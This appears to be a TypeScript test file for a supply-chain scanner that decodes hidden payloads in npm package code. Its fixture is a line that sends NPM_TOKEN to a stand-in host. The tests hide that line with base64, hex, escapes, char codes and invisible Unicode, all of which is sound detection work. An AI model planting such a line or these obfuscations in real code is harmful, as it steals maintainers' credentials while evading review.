import { decodeVariationSelectors, decodedUnits, findEncodedBlobs } from './decoded-blobs';
import { SourceFile } from './source-file';
import { scanJs } from './strip-comments';

const SECRET = "require('https').get('https://x.invalid/?t=' + process.env.NPM_TOKEN); // padding to make the blob long enough to be noticed";

function jsUnit(text: string): SourceFile {
  const scanned = scanJs(text);
  return new SourceFile('package/x.js', scanned.code, { kind: 'js', installTime: true, literals: scanned.literals, display: text });
}

describe('findEncodedBlobs', () => {
  it('decodes base64, double base64 and hex string literals that hold text', () => {
    const once = Buffer.from(SECRET).toString('base64');
    const twice = Buffer.from(once).toString('base64');
    const hex = Buffer.from(SECRET).toString('hex');
    const unit = jsUnit(`a('${once}');\nb("${twice}");\nc(\`${hex}\`);`);
    const blobs = findEncodedBlobs(unit);
    expect(blobs.map((blob) => blob.encoding)).toEqual(['base64', 'base64', 'hex']);
    for (const blob of blobs) expect(blob.decoded).toBe(SECRET);
  });

  it('decodes \\x escapes and char-code lists', () => {
    const escaped = [...SECRET].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
    const codes = [...SECRET].map((c) => c.charCodeAt(0)).join(',');
    const blobs = findEncodedBlobs(jsUnit(`var s = "${escaped}"; var t = String.fromCharCode(${codes});`));
    expect(blobs.map((blob) => blob.encoding).sort()).toEqual(['char-codes', 'escapes']);
    expect(blobs.every((blob) => blob.decoded === SECRET)).toBe(true);
  });

  it('ignores binary base64 (wasm, images) and plain long words', () => {
    const binary = Buffer.from(Array.from({ length: 400 }, (_, i) => (i * 37) % 256)).toString('base64');
    expect(findEncodedBlobs(jsUnit(`const wasm = "${binary}"; const w = "${'abcdefghij'.repeat(30)}";`))).toEqual([]);
  });

  it('decodes runs of invisible variation selectors', () => {
    const hidden = [...Buffer.from('eval(payload) hidden in plain sight')].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
    const [blob] = findEncodedBlobs(jsUnit(`const s = '${hidden}';`));
    expect(blob.encoding).toBe('invisible-unicode');
    expect(blob.decoded).toBe('eval(payload) hidden in plain sight');
    expect(decodeVariationSelectors('\uFE01\u{E0110}').toString('latin1')).toBe('\u0001\u0020');
  });

  it('turns blobs into units that point back at the line of the literal', () => {
    const once = Buffer.from(SECRET).toString('base64');
    const [unit] = decodedUnits(jsUnit(`// header\n\nconst b = '${once}';`));
    expect(unit.text).toBe(SECRET);
    expect(unit.installTime).toBe(true);
    expect(unit.evidence(0)).toMatchObject({ file: 'package/x.js', line: 3 });
    expect(unit.evidence(0).snippet.startsWith('[decoded base64]')).toBe(true);
  });
});
